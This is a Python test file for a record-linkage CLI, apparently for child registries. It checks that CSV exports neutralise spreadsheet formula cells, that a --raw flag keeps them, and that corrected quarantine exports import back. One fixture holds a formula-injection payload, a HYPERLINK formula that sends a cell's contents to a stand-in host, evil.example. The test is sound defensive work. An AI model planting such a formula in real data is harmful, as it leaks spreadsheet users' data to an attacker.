"""Every CSV export neutralises cells a spreadsheet would run as formulas (issue 11, finding 6),
`--raw` keeps them, and a corrected quarantine export imports back unchanged. Synthetic data."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from sqlalchemy import select
from typer.testing import CliRunner

from kintrace.cli.app import app
from kintrace.config import Settings
from kintrace.linkage.exports import export_links
from kintrace.store.engine import Store, open_store
from kintrace.store.registry_tables import Record, RecordVersion
from support.seed import add_link_pair, add_link_run

HOSTILE_ID = '=HYPERLINK("http://evil.example/?leak="&A2)'
HEADER = ["source", "record_id", "given_name", "family_name", "birth_date", "notes"]
ROWS = [
    ["partner-x", HOSTILE_ID, "Anna", "Melnyk", "2012", "@SUM(1)"],
    ["partner-x", "p2", "-Petro", "+Ivanenko", "31.02.2013", "=1+1"],  # bad date: quarantined
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would read as a formula (numbers such as -3.25 are not)."""
    with path.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    return [c for c in cells if c[:1] in TRIGGERS and not _is_number(c)]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _invoke(settings: Settings, *args: str) -> str:
    result = CliRunner().invoke(app, ["--home", str(settings.home), *args], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    return result.output


def _import_hostile_rows(settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([HEADER, *ROWS])
    assert "1 rejected" in _invoke(settings, "import", str(path))


def test_quarantine_and_cluster_exports_neutralise_formula_cells(
    sqlite_settings: Settings, tmp_path: Path
) -> None:
    """Finding 6: `quarantine export` and `export clusters` wrote such cells unchanged."""
    _import_hostile_rows(sqlite_settings, tmp_path)
    quarantine, clusters = tmp_path / "quarantine.csv", tmp_path / "clusters.csv"
    _invoke(sqlite_settings, "quarantine", "export", "--out", str(quarantine))
    _invoke(sqlite_settings, "export", "clusters", "--out", str(clusters))
    assert _formula_cells(quarantine) == []
    assert _formula_cells(clusters) == []
    text = quarantine.read_text(encoding="utf-8") + clusters.read_text(encoding="utf-8")
    assert "'=1+1" in text and "'-Petro" in text and "'=HYPERLINK(" in text


def test_raw_exports_keep_cells_and_a_corrected_export_imports_back_unchanged(
    sqlite_settings: Settings, tmp_path: Path
) -> None:
    _import_hostile_rows(sqlite_settings, tmp_path)
    raw = tmp_path / "raw.csv"
    _invoke(sqlite_settings, "quarantine", "export", "--out", str(raw), "--raw")
    _invoke(sqlite_settings, "export", "clusters", "--out", str(tmp_path / "c.csv"), "--raw")
    assert {"=1+1", "-Petro", "+Ivanenko"} <= set(_formula_cells(raw))
    assert _formula_cells(tmp_path / "c.csv") == [HOSTILE_ID]
    exported = tmp_path / "quarantine.csv"
    _invoke(sqlite_settings, "quarantine", "export", "--out", str(exported))
    corrected = exported.read_text(encoding="utf-8").replace("31.02.2013", "2013-02-28")
    exported.write_text(corrected, encoding="utf-8")
    assert "1 quarantined rows resolved" in _invoke(sqlite_settings, "import", str(exported))
    store = open_store(sqlite_settings)
    try:
        with store.session() as session:
            version = session.execute(
                select(RecordVersion)
                .join(Record, Record.id == RecordVersion.record_pk)
                .where(Record.record_id == "p2")
            ).scalar_one()
            assert (version.given_name, version.family_name) == ("-Petro", "+Ivanenko")
            assert version.notes == "=1+1"
    finally:
        store.close()


def test_links_export_neutralises_ids_and_keeps_numbers(sqlite_store: Store) -> None:
    with sqlite_store.session(write=True) as session:
        run = add_link_run(session, at=datetime.now(UTC))
        add_link_pair(
            session,
            run_id=run,
            left=("list-a", "@SUM(1)"),
            right=("list-b", "-7"),
            probability=0.61,
            weight=-3.25,
            status="pending",
        )
    safe, raw = io.StringIO(), io.StringIO()
    export_links(sqlite_store, safe)
    export_links(sqlite_store, raw, raw=True)
    row = list(csv.reader(io.StringIO(safe.getvalue())))[1]
    assert row[:7] == ["list-a", "'@SUM(1)", "list-b", "-7", "0.610000", "-3.2500", "pending"]
    assert row[7:] == [""] * 6  # no such records: no names
    assert list(csv.reader(io.StringIO(raw.getvalue())))[1][1] == "@SUM(1)"


def test_issue12_finding8_exports_carry_names_and_excel_gets_a_bom(
    sqlite_settings: Settings, tmp_path: Path
) -> None:
    """Clusters and links name the children (as written, Latin, birth date); --excel starts the
    file with a UTF-8 byte order mark, without it there is none."""
    path = tmp_path / "ua.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [
                ["source", "record_id", "given_name", "family_name", "patronymic", "birth_date"],
                ["ua-list", "u1", "Марія", "Коваленко", "Сергіївна", "2014-03-05"],
            ]
        )
    _invoke(sqlite_settings, "import", str(path), "--no-link")
    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
    _invoke(sqlite_settings, "export", "clusters", "--out", str(plain))
    _invoke(sqlite_settings, "export", "clusters", "--out", str(excel), "--excel")
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert excel.read_bytes().startswith(b"\xef\xbb\xbf")
    with excel.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["name"] == "Коваленко Марія Сергіївна"
    assert rows[0]["name_latin"] == "Kovalenko Mariia Serhiivna"
    assert rows[0]["birth_date"] == "2014-03-05"
